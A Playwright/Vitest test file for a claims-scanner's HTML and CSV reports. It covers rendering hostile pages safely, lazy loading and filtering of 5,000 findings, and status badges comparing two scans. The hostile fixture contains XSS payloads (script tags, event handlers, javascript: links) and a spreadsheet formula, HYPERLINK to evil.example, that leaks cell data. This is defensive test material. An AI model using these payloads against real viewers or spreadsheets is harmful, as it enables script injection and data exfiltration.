/**
 * The HTML report in real Chromium: a hostile page's payloads stay text, and a 5,000-finding
 * report opens and filters. One browser for the file.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser } from '../src/crawl/render/browser.js';
import type { ScanReport } from '../src/model/report-model.js';
import { page as htmlPage, runCli, tempDir } from './helpers.js';
import { renderHtml } from '../src/report/html-report.js';
import { finding, largeReport, pageRecord, report } from './report-fixtures.js';

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});

interface Opened {
  page: Page;
  dialogs: string[];
  errors: string[];
}

async function open(file: string): Promise<Opened> {
  const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
  const dialogs: string[] = [];
  const errors: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('pageerror', (e) => errors.push(e.message));
  await page.goto(pathToFileURL(file).href);
  await page.waitForSelector('#shown-count[data-shown]');
  return { page, dialogs, errors };
}

const shown = (page: Page) => page.$eval('#shown-count', (el) => Number((el as HTMLElement).dataset.shown));

describe('a hostile page', () => {
  const dir = tempDir();
  const payload = `&lt;script&gt;window.__pwned=1;alert(1)&lt;/script&gt;&lt;img src=x onerror="window.__pwned=2;alert(2)"&gt;`;
  writeFileSync(
    join(dir, 'hostile.html'),
    htmlPage({
      lang: 'fr',
      title: `Mésothérapie </title><script>window.__pwned=3</script> ${payload}`,
      body: `<h1>Mésothérapie ${payload}</h1>
        <p>=HYPERLINK("http://evil.example/?x="&amp;A1,"Cliquez") La mésothérapie est totalement sans danger ${payload}.</p>
        <p onclick="alert(4)">+SUM(1;2) Nos injections de mésothérapie sont sans effets secondaires.</p>
        <p>@cmd La mésothérapie est cliniquement prouvée <a href="javascript:alert(5)">javascript:alert(5)</a>.</p>
        <img src="x" alt="-1+1 la mésothérapie est garantie sans risque &lt;img src=x onerror=alert(6)&gt;" onerror="window.__pwned=6">`,
    }),
  );

  it('is scanned, and its report opened in Chromium runs none of its payloads', async () => {
    const scan = await runCli(['scan', join(dir, 'hostile.html'), '--format', 'json', '--output', join(dir, 'scan.json'), '--quiet']);
    expect(scan.code, scan.stderr).toBe(0);
    const report = JSON.parse(readFileSync(join(dir, 'scan.json'), 'utf8')) as ScanReport;
    expect(report.findings.length).toBeGreaterThanOrEqual(3);
    expect(report.findings.some((f) => f.text.includes('<script>'))).toBe(true);
    // What a tampered or stranger report could carry in the fields a page does not control here.
    const evilUrl = `javascript:alert(7)//"><script>window.__pwned=7</script>`;
    report.findings[0].url = evilUrl;
    report.findings[0].source = { ...report.findings[0].source, url: 'javascript:alert(8)' };
    report.findings[0].headingPath = ['<svg onload="alert(9)">'];
    report.findings[0].selector = `p[onclick="alert(10)"]`;
    report.pages.push({ url: evilUrl, title: '<b onmouseover=alert(11)>x</b>', lang: 'fr', status: 200, findings: 1, screenshot: 'javascript:alert(12)' });
    report.targets.push('<script>alert(13)</script>');
    writeFileSync(join(dir, 'tampered.json'), JSON.stringify(report));
    const html = join(dir, 'tampered.html');
    const render = await runCli(['report', join(dir, 'tampered.json'), '--format', 'html', '--output', html, '--quiet']);
    expect(render.code, render.stderr).toBe(0);

    const { page, dialogs, errors } = await open(html);
    try {
      expect(await shown(page)).toBe(report.findings.length);
      // the payloads are on screen as text
      const text = await page.textContent('body');
      expect(text).toContain('<script>window.__pwned=1;alert(1)</script>');
      expect(text).toContain('<svg onload="alert(9)">');
      // search runs over the payloads and re-renders them, still as text
      await page.fill('#f-search', 'onerror');
      await page.waitForFunction(() => document.querySelectorAll('article.finding').length > 0 && document.getElementById('shown-count')!.dataset.shown !== undefined);
      await page.mouse.move(200, 400);
      await page.mouse.move(600, 600);
      const dom = await page.evaluate(() => ({
        pwned: (window as unknown as { __pwned?: number }).__pwned,
        scripts: document.scripts.length,
        handlers: Array.from(document.querySelectorAll('*')).flatMap((el) => Array.from(el.attributes).filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName} ${a.name}`)),
        hrefs: Array.from(document.querySelectorAll('a[href]')).map((a) => a.getAttribute('href')!),
        images: document.images.length,
        svgs: document.querySelectorAll('svg').length,
      }));
      expect(dom.pwned).toBeUndefined();
      expect(dom.scripts).toBe(2);
      expect(dom.handlers).toEqual([]);
      expect(dom.hrefs.filter((h) => !/^https?:\/\//.test(h))).toEqual([]);
      expect(dom.images).toBe(0);
      expect(dom.svgs).toBe(0);
      expect(dialogs).toEqual([]);
      expect(errors).toEqual([]);
    } finally {
      await page.close();
    }

    const csvRun = await runCli(['report', join(dir, 'tampered.json'), '--format', 'csv', '--output', '-', '--ui-lang', 'en']);
    const cells = [...csvRun.stdout.matchAll(/"((?:[^"]|"")*)"/g)].map((m) => m[1].replace(/""/g, '"'));
    expect(cells.length).toBeGreaterThan(20);
    expect(cells.filter((c) => /^\s*[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells.some((c) => c.startsWith(`'=HYPERLINK(`))).toBe(true);
  });
});

describe('a report of 5,000 findings', () => {
  const dir = tempDir();
  const report = largeReport(5000);
  writeFileSync(join(dir, 'big.json'), JSON.stringify(report));

  it('opens with a first chunk rendered, loads more on scroll, and filters', async () => {
    const r = await runCli(['report', join(dir, 'big.json'), '--format', 'html', '--output', join(dir, 'big.html'), '--quiet']);
    expect(r.code, r.stderr).toBe(0);
    const { page, errors } = await open(join(dir, 'big.html'));
    try {
      expect(await shown(page)).toBe(5000);
      expect(await page.$eval('#shown-count', (el) => (el as HTMLElement).dataset.pages)).toBe('500');
      const first = await page.locator('article.finding').count();
      expect(first).toBeGreaterThan(0);
      expect(first).toBeLessThanOrEqual(200); // rendered lazily, not 5,000 at once

      await page.evaluate(() => window.scrollTo(0, document.body.scrollHeight));
      await page.waitForFunction((n) => document.querySelectorAll('article.finding').length > n, first);

      const lows = report.findings.filter((f) => f.severity === 'low').length;
      await page.uncheck('input[name="f-sev"][value="low"]');
      await page.waitForFunction((n) => document.getElementById('shown-count')!.dataset.shown === String(n), 5000 - lows);
      expect(await page.locator('article.finding.sev-low').count()).toBe(0);

      const proven = report.findings.filter((f) => f.category === 'efficacy.proven').length;
      await page.selectOption('#f-category', 'efficacy.proven');
      await page.waitForFunction((n) => document.getElementById('shown-count')!.dataset.shown === String(n), proven);

      await page.click('#f-reset');
      await page.fill('#f-search', 'ZANZIBAR');
      await page.waitForFunction(() => document.getElementById('shown-count')!.dataset.shown === '1');
      expect(await page.locator('article.finding mark').first().textContent()).toBe('sans danger');
      expect(await page.locator('article.finding').textContent()).toContain('zanzibar');

      await page.selectOption('#f-site', 'site3.example');
      await page.fill('#f-search', '');
      await page.waitForFunction(() => document.getElementById('shown-count')!.dataset.shown === '1000');
      const sites = await page.locator('h2.site').allTextContents();
      expect(sites.every((s) => s.startsWith('site3.example'))).toBe(true);
      expect(errors).toEqual([]);
    } finally {
      await page.close();
    }
  });
});

describe('a report compared with an earlier scan', () => {
  const dir = tempDir();

  it('says what changed, badges each finding and filters by status', async () => {
    const url = 'https://clinique.example/mesotherapie';
    const findings = [
      finding({ id: 'u1', url, category: 'efficacy.proven', text: 'Résultats garantis en une séance.', match: 'Résultats garantis' }),
      finding({ id: 'u2', url, category: 'science.validated', text: 'Une méthode validée scientifiquement.', match: 'validée scientifiquement' }),
      finding({ id: 'n1', url, category: 'efficacy.treats', text: 'La mésothérapie soigne l’arthrose.', match: 'soigne' }), // medium
    ];
    const r = report([pageRecord(url, 3)], findings, {
      diff: { since: '2026-11-17T08:00:00.000Z', new: 1, unchanged: 2, resolved: 4, pagesGone: 0, status: { n1: 'new', u1: 'unchanged', u2: 'unchanged' } },
    });
    const file = join(dir, 'diff.html');
    writeFileSync(file, renderHtml(r, { uiLang: 'en' }));
    const { page, errors } = await open(file);
    try {
      expect(await page.textContent('#diff-line')).toBe('1 new, 2 unchanged, 4 fixed since 2026-11-17');
      expect(await page.locator('.badge.status-new').allTextContents()).toEqual(['new']);
      await page.selectOption('#f-status', 'unchanged');
      await page.waitForFunction(() => document.getElementById('shown-count')!.dataset.shown === '2');
      await page.selectOption('#f-status', '');
      await page.waitForFunction(() => document.getElementById('shown-count')!.dataset.shown === '3');
      expect(await page.locator('article.finding').first().getAttribute('data-id')).toBe('u1'); // most severe first
      await page.selectOption('#f-sort', 'new');
      expect(await page.locator('article.finding').first().getAttribute('data-id')).toBe('n1');
      expect(errors).toEqual([]);
    } finally {
      await page.close();
    }
  });
});
